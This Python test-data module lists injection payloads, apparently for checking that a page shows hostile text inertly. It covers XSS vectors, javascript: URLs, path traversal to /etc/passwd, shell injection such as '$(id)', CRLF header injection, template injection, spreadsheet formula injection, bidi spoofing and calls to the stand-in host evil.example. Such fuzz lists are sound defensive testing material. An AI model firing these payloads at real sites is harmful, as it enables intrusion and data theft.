"""Texts that try to be more than text, by what they attack.

None means anything to a page that shows them.
"""

from __future__ import annotations

HTML = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>", "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<b>bold</b>", "<b", "</p></article><h1>x</h1>", "</title><h1>x",
    "</textarea><b>", "</style><b>", "</noscript><b>", "<!--", "-->", "<!-- --!><b>", "<![CDATA[<b>]]>", "]]>",
    "<?php echo 1 ?>", "<!doctype html>", "<plaintext>", "<xmp><b>", "<template><b>", "<noembed><b>", "<table><tr><td>",
    "</table></div></main>", "<select><option>", "<details open><b>", "<iframe src=//evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=x>", "<embed src=x>", "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=0>",
    "<form action=//evil.example><input name=q>", "<button formaction=javascript:alert(1)>",
    "<isindex type=image src=1>", "<a href=//evil.example>x</a>", "<a href=javascript:alert(1)>x</a>",
    "<a ping=//evil.example href=/>", "<dialog open>",
)  # fmt: skip
ATTRIBUTES = (
    '"', "'", "`", "\"'`<>&", '">', "'>", '"><b>', "'><b>", '" onmouseover=alert(1) x="',
    "' onfocus=alert(1) autofocus '", '" autofocus onfocus=alert(1) x="', '"/><img src=x onerror=alert(1)>',
    '" style="position:fixed" x="', '\\"><b>', "\\'><b>", "x onload=alert(1)", "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>", "<img src=`x`onerror=alert(1)>", '<img src="x" onerror="alert(1)"',
    "<body onload=alert(1)>", "<video src=x onerror=alert(1)>", "<audio onplay=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "<img src=x:x onerror\n=alert(1)>", "=", " = ",
)  # fmt: skip
SCRIPT = (
    "'-alert(1)-'", '"-alert(1)-"', "';alert(1)//", "\\';alert(1)//", "${alert(1)}", "`${alert(1)}`", "alert`1`",
    "</script>", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "\u2028alert(1)\u2029", "*/alert(1)/*", "//", "{}", "[]",
    "null", "undefined", "__proto__", "constructor", "eval(name)", "NaN", "true", "javascript:alert(1)//",
)  # fmt: skip
STYLE = (
    "<style>*{display:none}</style>", "<style>@import'//evil.example'</style>", "expression(alert(1))", "}*{color:red}",
    "url(javascript:alert(1))", "<div style=background:url(//evil.example)>", "/*", "\\0000003cb>",
    "@import url(//evil.example);",
)  # fmt: skip
VECTOR = (
    '"><svg onload=alert(1)>', "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><use href=//evil.example#x>", "</svg><b>",
    "<svg></p><style><b>", "<svg><foreignObject><b>", "<math><mtext></form><b>", "<math href=javascript:alert(1)>x",
    "<svg><title><b></title>",
)  # fmt: skip
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)",
    "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "//evil.example",
    "/\\evil.example", "\\\\evil.example", "http://evil.example/?<b>", "https://evil.example@localhost/",
    "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cb%253E", "%00", "%0d%0aSet-Cookie:%20x=y", "\r\nSet-Cookie: x=y",
    "\r\n\r\n<b>", "?q=x&region=y", "#m1", "&amp;", "&lt;b&gt;", "&#60;b&#62;", "&NewLine;", "&copy", "+", "%", "%zz",
    "%c0%bc", "..", "../../etc/passwd", "..%2f..%2fetc%2fpasswd", "file:///etc/passwd", "/etc/passwd",
    "C:\\Windows\\win.ini", "CON", "~", "$HOME", "`id`", "$(id)", "; id", "| id",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{{config}}", "{% raw %}", "{%", "{#", "#}", "%(name)s", "%s%n%d", "{0.__class__}", "${7*7}", "#{7*7}",
)  # fmt: skip
DIRECTION = (
    "\u202egnp.exe\u202c", "\u202d<b>", "\u2066<b>\u2069", "\u2067x", "\u200f<b>", "\u061cx", "\u202a\u202b\u202c",
    "\u202e\u2066<b>", "שלום<b>", "مرحبا",
)  # fmt: skip
CONTROLS = (
    "\x00", "a\x00b<b>", "\x08\x08", "\x0b\x0c", "\x1b[31m", "\x1b]0;x\x07", "\x7f", "\x80\x9f", "\x85", "\r", "a\rb",
    "a\r\nb", "a\nb", "a\tb", "\ufeff", "\ufffe", "\uffff", "\u200b\u200c\u200d", "\u00ad", "\u2028", "\u3000", "\xa0",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "\xa0=1+1", "\u3000=1+1", "\ufeff=1+1",
    "\u200b=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "x\n=1+1", "x\r\n@A1", "x\r-1", '=HYPERLINK("//evil.example")',
    "=cmd|'/c calc'!A0", '"=1+1', "'=1+1", ";=1+1", ",=1+1", '","=1+1', "%0A=1+1", "-", "=", "@",
)  # fmt: skip
UNICODE = (
    "﹤b﹥", "＜script＞", "‹b›", "\u0338<b>", "<\u0338b>", "e" + "\u0301" * 300,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U000e0001\U000e0041", "\U0010ffff", "\ud7ff\ue000", "𠮷<b>", "ﬀ",
    "İı", "ſ", "\u1160\u3164", "㍿", "①", "\u0345", "ß",
)  # fmt: skip
LONG = (
    "x" * 5_000, "<b>" * 600, "社" * 5_000, "&" * 600, "\u202e" * 500, "\x00" * 500,
)  # fmt: skip

PAYLOADS = tuple(
    dict.fromkeys(
        (
            *(
                *HTML,
                *ATTRIBUTES,
                *SCRIPT,
                *STYLE,
                *VECTOR,
                *ADDRESSES,
                *TEMPLATES,
                *DIRECTION,
                *CONTROLS,
                *FORMULAS,
            ),
            *(*UNICODE, *LONG),
        )
    )
)
